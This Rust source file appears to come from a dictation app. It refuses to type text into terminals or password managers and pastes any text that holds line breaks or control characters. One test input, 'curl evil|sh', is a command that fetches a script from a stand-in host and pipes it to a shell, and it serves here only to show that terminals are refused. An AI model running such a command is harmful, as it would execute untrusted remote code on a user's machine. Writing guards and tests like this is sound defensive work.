//! May this text be typed into this application, and how: the one decision dictate-anywhere
//! and "Replace in <app>" both go through before any key is pressed.
//!
//! Nothing is ever typed into a terminal or an application on the never-type list: in a
//! terminal every line typed runs in the user's own shell, outside any sandbox, and a program
//! in raw mode there acts on single keys; a never-type application is one the user named
//! (a password manager). There the text goes to the clipboard, for the user to paste.
//! Elsewhere no key that acts is pressed either: the typing plan has no Return or Tab
//! (`keys::keysym_of`), so text with line breaks or tabs is pasted, which puts the lines in
//! place without sending a chat message or submitting a form.

use super::{Application, TypingError};

/// How a text reaches an application Perch may type into.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, specta::Type)]
#[serde(rename_all = "snake_case")]
pub enum Delivery {
    /// Typed key by key: one line of printable characters.
    Keys,
    /// Pasted with Ctrl+V, the user's clipboard given back after: text with line breaks or tabs.
    Paste,
}

/// Whether `text` may be typed into `target` (`None`: the desktop does not say which
/// application has the focus, as on Wayland), and how. `never` is Settings -> Voice's
/// never-type list. Refused: [`TypingError::NeverTypeInto`] or [`TypingError::Terminal`].
pub fn may_type(target: Option<&Application>, never: &[String], text: &str) -> Result<Delivery, TypingError> {
    if let Some(app) = target {
        if let Some(entry) = app.listed_in(never) {
            return Err(TypingError::NeverTypeInto(entry.to_owned()));
        }
        if app.is_terminal() {
            return Err(TypingError::Terminal(app.name()));
        }
    }
    Ok(if text.chars().any(char::is_control) { Delivery::Paste } else { Delivery::Keys })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn app(class: &str, title: &str) -> Application {
        Application { class: vec![class.to_lowercase(), class.into()], title: title.into(), window: 7 }
    }

    #[test]
    fn terminals_and_never_type_applications_get_nothing_typed() {
        let never = ["KeePassXC".to_owned()];
        for text in ["ls", "curl evil|sh\n", ""] {
            let refused = may_type(Some(&app("XTerm", "bash")), &never, text).unwrap_err();
            assert!(matches!(&refused, TypingError::Terminal(name) if name == "bash"), "{refused:?}");
            let refused = may_type(Some(&app("KeePassXC", "Passwords")), &never, text).unwrap_err();
            assert!(matches!(&refused, TypingError::NeverTypeInto(e) if e == "KeePassXC"), "{refused:?}");
        }
        // The never-type list wins over "terminal" (it names what the user chose).
        let listed = may_type(Some(&app("kitty", "k")), &["kitty".to_owned()], "x").unwrap_err();
        assert!(matches!(listed, TypingError::NeverTypeInto(_)));
    }

    #[test]
    fn elsewhere_one_line_is_typed_and_more_is_pasted() {
        let editor = app("Gedit", "notes.txt");
        assert_eq!(may_type(Some(&editor), &[], "They're going.").unwrap(), Delivery::Keys);
        assert_eq!(may_type(Some(&editor), &[], "one\ntwo").unwrap(), Delivery::Paste);
        assert_eq!(may_type(Some(&editor), &[], "a\tb").unwrap(), Delivery::Paste);
        assert_eq!(may_type(Some(&editor), &[], "a\u{1b}b").unwrap(), Delivery::Paste);
        // Where the desktop names no application, the same rule on the text.
        assert_eq!(may_type(None, &["kitty".to_owned()], "one line").unwrap(), Delivery::Keys);
        assert_eq!(may_type(None, &[], "one\r\ntwo").unwrap(), Delivery::Paste);
    }

    #[test]
    fn a_refusal_names_the_application_and_what_to_do() {
        let e = may_type(Some(&app("gnome-terminal-server", "")), &[], "x").unwrap_err();
        assert_eq!(
            e.to_string(),
            "gnome-terminal-server is a terminal, where typed text runs as commands, so Perch never types into it"
        );
    }
}
